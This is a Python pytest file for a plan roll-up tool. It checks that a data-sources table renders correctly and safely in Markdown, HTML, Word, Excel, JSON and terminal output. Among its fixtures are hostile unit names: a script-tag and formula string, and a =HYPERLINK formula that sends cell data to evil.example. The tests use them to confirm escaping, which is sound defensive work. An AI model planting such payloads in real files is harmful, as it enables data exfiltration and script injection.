"""rollup --units' 数据来源 table (render/rolled.sources), the same in every format: what each
unit's figures came from and what a reader should know of them, people's text kept as data;
and the roll-up as a Word document that fits an A4 page."""

from __future__ import annotations

import datetime as dt
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from conftest import ok, run
from rich.cells import cell_len

from reformctl import rollup
from reformctl.render import View, render, rolled

DAY = dt.date(2020, 10, 15)
UNITS = {"nc": ("南昌市科学技术协会（南昌市科协）", "市级"), "jj": ("九江市科学技术协会（九江市科协）", "市级")}
HOSTILE = "=1+1 <script>alert(1)</script> **x**\n第二行"


def full(unit: str, **given: Any) -> dict[str, Any]:
    """A source of the final shape, every key present."""
    source: dict[str, Any] = {"unit": unit, "commit": "1a2b3c4", "date": "2020-10-12", "path": "data/tasks-2020.yaml",
                              "missing": "", "why": "", "failed": "", "changed": "2020-10-12", "stale_days": None,
                              "outdated": "", "verified": None, "verify_why": ""}  # fmt: skip
    return {**source, **given}


SOURCES = [
    full(UNITS["nc"][0], changed="2020-06-30", stale_days=107, verified=True),
    full(
        UNITS["jj"][0],
        failed="Could not resolve host: git.example.org",
        outdated="新增事项 7.3，6.2 的期限改为 11月30日",
    ),
    full(
        "赣州市科协", commit="", date="", path="", missing="unfetched", why="尚未成功获取（请先运行 reformctl fetch）"
    ),
    full("萍乡市科协", commit="", date="", path="", missing="no-plan", why="分支中没有计划文件"),
    full("上饶市科协", verified=False, verify_why="签名的密钥不在清单中"),
    full(HOSTILE),
    {
        "unit": "宜春市科协",
        "commit": "9e07d41",
        "date": "2020-10-01",
        "path": "tasks-2020.yaml",
        "missing": "",
        "why": "",
    },
]
REMARKS = [
    "未更新 107 天（计划最后修改于 2020-06-30）；签名已核验",
    "未能获取：Could not resolve host: git.example.org，沿用上次获取的提交；"
    "上级计划已更新：新增事项 7.3，6.2 的期限改为 11月30日",
    "未能获取：尚未成功获取（请先运行 reformctl fetch）",
    "未找到计划：分支中没有计划文件",
    "签名未通过：签名的密钥不在清单中",
    "",
    "",
]


@pytest.fixture
def result(tmp_path: Path) -> rollup.Rollup:
    """A folder roll-up of two units with long names (the real plan's long item texts), given
    the sources rollup --units would give."""
    ok("init")
    for key, (name, level) in UNITS.items():
        ok("init", "--unit", name, "--level", level, "-o", f"plans/{key}/tasks-2020.yaml")
    ok("status", "set", "6.2", "done", "--date", "2020-09-01", "-f", "plans/nc/tasks-2020.yaml")
    ok("due", "set", "6.2", "2020-10-01", "--date", "2020-09-01", "-f", "plans/jj/tasks-2020.yaml")
    found, problems = rollup.rollup([tmp_path / "plans"], DAY, top=tmp_path / "data" / "tasks-2020.yaml")
    assert not problems
    found.sources = [dict(s) for s in SOURCES]
    return found


def said(result: rollup.Rollup, fmt: str, by: str = "item") -> Any:
    result.by = by
    return render("rollup", fmt, View(result.top, DAY), result)


def test_the_remark_says_each_flag_in_chinese(result: rollup.Rollup):
    headers, rows = rolled.sources(result)
    assert headers == ["单位", "提交", "提交日期", "计划文件", "说明"]
    assert [r[4] for r in rows] == REMARKS
    assert rows[0][:4] == [UNITS["nc"][0], "1a2b3c4", "2020-10-12", "data/tasks-2020.yaml"]
    assert rows[2][:4] == ["赣州市科协", "", "", ""]


def test_markdown_and_html_list_the_sources_with_names_as_data(result: rollup.Rollup):
    page = said(result, "md")
    part = page[page.index("## 数据来源") :]
    assert "| 南昌市科学技术协会（南昌市科协） | 1a2b3c4 | 2020-10-12 | data/tasks-2020.yaml |" in part
    assert "签名未通过：签名的密钥不在清单中" in part
    assert r"=1+1 \<script\>alert(1)\</script\> \*\*x\*\*" in part and "<script>" not in page
    assert len(part.splitlines()) == 2 + 2 + len(SOURCES), "the hostile name's newline stays in its row"
    html = said(result, "html")
    assert "<h2>数据来源</h2>" in html and "<script>" not in html
    assert "=1+1 &lt;script&gt;alert(1)&lt;/script&gt; **x**" in html
    assert html.index("<h2>数据来源</h2>") > html.index("<h2>逾期单位</h2>")
    for by in ("task", "rank"):
        assert "## 数据来源" in said(result, "md", by) and "<h2>数据来源</h2>" in said(result, "html", by)


def test_without_sources_no_format_says_them(result: rollup.Rollup):
    result.sources = []
    for fmt in ("md", "html", "docx", "json"):
        shown = said(result, fmt)
        text = shown.decode("latin-1") if isinstance(shown, bytes) else shown
        assert "数据来源" not in text and "sources" not in text
    assert "数据来源" not in _docx_text(said(result, "docx"))
    from openpyxl import load_workbook

    assert "数据来源" not in load_workbook(io.BytesIO(said(result, "xlsx"))).sheetnames


def test_the_workbook_has_a_sources_sheet_last_and_no_formula(result: rollup.Rollup):
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(said(result, "xlsx")))
    assert book.sheetnames[-1] == "数据来源" and len(book.sheetnames) > 1
    sheet = book["数据来源"]
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert rows[0] == ["单位", "提交", "提交日期", "计划文件", "说明"]
    assert rows[1][:3] == [UNITS["nc"][0], "1a2b3c4", dt.datetime(2020, 10, 12)]
    assert [r[4] or "" for r in rows[1:]] == REMARKS
    hostile = sheet.cell(row=3 + SOURCES.index(full(HOSTILE)), column=1)
    assert hostile.data_type == "s" and hostile.value.endswith(HOSTILE)
    assert hostile.value in (HOSTILE, "'" + HOSTILE)


def test_json_keeps_the_sources_exact(result: rollup.Rollup):
    data = json.loads(said(result, "json"))
    assert data["sources"] == SOURCES


def _docx_text(data: bytes) -> str:
    from docx import Document

    word = Document(io.BytesIO(data))
    return "\n".join([p.text for p in word.paragraphs] + [c.text for t in word.tables for r in t.rows for c in r.cells])


def _tables(data: bytes) -> tuple[Any, list[list[list[str]]]]:
    from docx import Document

    word = Document(io.BytesIO(data))
    return word, [[[c.text for c in r.cells] for r in t.rows] for t in word.tables]


def test_the_word_document_holds_the_roll_up_and_its_sources(result: rollup.Rollup):
    word, tables = _tables(said(result, "docx"))
    lines = [p.text for p in word.paragraphs if p.text]
    assert lines[:2] == ["2020年科协系统深化改革重点任务 落实情况汇总", "截至 2020-10-15，共 2 个单位"]
    assert [line for line in lines if line[1:2] == "、"] == ["一、各事项落实情况", "二、各单位完成情况", "三、逾期单位",
                                                         "四、数据来源"]  # fmt: skip
    assert tables[0][0] == rolled.counts(result)[0]
    assert tables[1][1:] == rolled.units(result)[1]
    sources = tables[-1]
    assert sources[0] == ["单位", "提交", "提交日期", "计划文件", "说明"]
    assert [row[4] for row in sources[1:]] == REMARKS
    assert sources[1 + SOURCES.index(full(HOSTILE))][0] == HOSTILE


@pytest.mark.parametrize("by", ["task", "rank"])
def test_the_word_document_by_task_and_by_rank_say_what_markdown_says(result: rollup.Rollup, by: str):
    word, tables = _tables(said(result, "docx", by))
    headings = [p.text for p in word.paragraphs if p.text[1:2] == "、"]
    assert headings == (["一、各单位各任务完成情况"] if by == "task" else ["一、考核排名"]) + ["二、数据来源"]
    if by == "task":  # twelve tasks do not fit a portrait page as columns: each unit's shares in one cell
        headers, rows = rolled.tasks(result)
        assert tables[0][0] == ["单位", "级别", "各任务已完成的事项占比"]
        assert tables[0][1][2] == "；".join(f"{h} {c}" for h, c in zip(headers[2:], rows[0][2:], strict=True))
        assert tables[0][1][2].startswith("任务1 ")
    else:
        assert any(p.text.startswith("排名规则：") for p in word.paragraphs)


LONG = (
    "未能获取：远程仓库拒绝访问（HTTP 403），请联系该单位的信息管理员检查仓库权限设置、"
    "访问令牌是否过期以及服务器证书是否有效"
)


def test_every_word_table_spans_the_text_width(result: rollup.Rollup):
    from docx.oxml.ns import qn

    result.sources.append(
        full("景德镇市科学技术协会（景德镇市科协）", failed=LONG[5:], stale_days=107, changed="2020-06-30")
    )
    assert len(rolled.remark(result.sources[-1])) >= 80
    word, tables = _tables(said(result, "docx"))
    assert max(len(row[1]) for row in tables[0]) >= 100, "the real plan's long item texts"
    section = word.sections[0]
    room = int((section.page_width - section.left_margin - section.right_margin) / 635)
    assert section.page_width > section.page_height, "A4 landscape (横排), for the nine columns of counts"
    assert len(word.tables) == 4
    for table in word.tables:
        grid = [int(col.get(qn("w:w"))) for col in table._tbl.tblGrid.findall(qn("w:gridCol"))]
        assert sum(grid) == room
        assert min(grid) >= 600, grid  # no column squeezed to a character or less
        own = table._tbl.tblPr.find(qn("w:tblW"))
        assert own.get(qn("w:type")) == "dxa" and int(own.get(qn("w:w"))) == room
    grid = [int(col.get(qn("w:w"))) for col in word.tables[-1]._tbl.tblGrid.findall(qn("w:gridCol"))]
    assert grid[3] >= 1400, "data/tasks-2020.yaml on two lines at most, not broken into six"
    assert grid[4] >= room // 5, "the 说明 keeps room for its prose"


def test_the_roll_up_in_word_needs_a_file_and_the_folder_roll_up_has_no_sources(result: rollup.Rollup):
    from conftest import run

    refused = run("rollup", "plans", "--format", "docx")
    assert refused.exit_code != 0 and "-o 汇总.docx" in refused.output
    ok("rollup", "plans", "--as-of", str(DAY), "--format", "docx", "-o", "汇总.docx")
    text = _docx_text(Path("汇总.docx").read_bytes())
    assert "落实情况汇总" in text and "截至 2020-10-15，共 2 个单位" in text and "数据来源" not in text


def _screen(result: rollup.Rollup, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> str:
    monkeypatch.setenv("COLUMNS", "80")
    monkeypatch.setenv("TTY_COMPATIBLE", "1")  # drawn as on a terminal 80 columns wide
    render("rollup", "table", View(result.top, DAY, no_color=True), result)
    shown = re.sub("\x1b\\[[0-9;]*m", "", capsys.readouterr().out)  # bold headers: styles, not text
    assert max(cell_len(line) for line in shown.splitlines()) <= 80, max(shown.splitlines(), key=cell_len)
    return shown[shown.index("数据来源\n") :]


def test_the_screen_lists_long_sources_whole_in_80_columns(result: rollup.Rollup, monkeypatch, capsys):
    part = _screen(result, monkeypatch, capsys)
    assert "南昌市科学技术协会（南昌市科协）\n    提交：1a2b3c4 · 提交日期：2020-10-12" in part
    flat = part.replace("\n    ", "")
    for remark in REMARKS:
        assert remark in flat, "a remark is never cut"
    assert "\n=1+1 <script>alert(1)</script> **x** 第二行\n    提交" in part, "the name as text, on one line"


def test_the_screen_draws_short_sources_as_a_table(result: rollup.Rollup, monkeypatch, capsys):
    result.sources = [full("宜春市科协", verified=True), full("赣州市科协", commit="5b2e810")]
    part = _screen(result, monkeypatch, capsys)
    assert "┃ 单位       ┃ 提交    ┃ 提交日期   ┃ 计划文件             ┃ 说明" in part
    assert "│ 宜春市科协 │ 1a2b3c4 │ 2020-10-12 │ data/tasks-2020.yaml │ 签名已核验" in part
    assert "│ 赣州市科协 │ 5b2e810 │ 2020-10-12 │ data/tasks-2020.yaml │            │" in part


def test_a_unit_named_as_a_formula_heads_its_columns_as_text(tmp_path: Path):
    """Held-out trial 2: a unit named =HYPERLINK(…) was a live formula in the heat map's header
    row (汇总 and its level's sheet), though its cells and its 数据来源 row were text."""
    import io

    import openpyxl

    ok("init")
    name = '=HYPERLINK("http://evil.example/steal?d="&A1,"衢州市柯城区科协")'
    ok("init", "--unit", name, "--level", "县级", "-o", "plans/kc/tasks-2020.yaml")
    made = run("rollup", "plans", "--format", "xlsx", "-o", "汇总.xlsx")
    assert made.exit_code == 0, made.output
    book = openpyxl.load_workbook(io.BytesIO((tmp_path / "汇总.xlsx").read_bytes()))
    formulas = [(ws.title, c.coordinate) for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert [c.value for c in book["汇总"][2]][2] == name, "the name itself, as text"
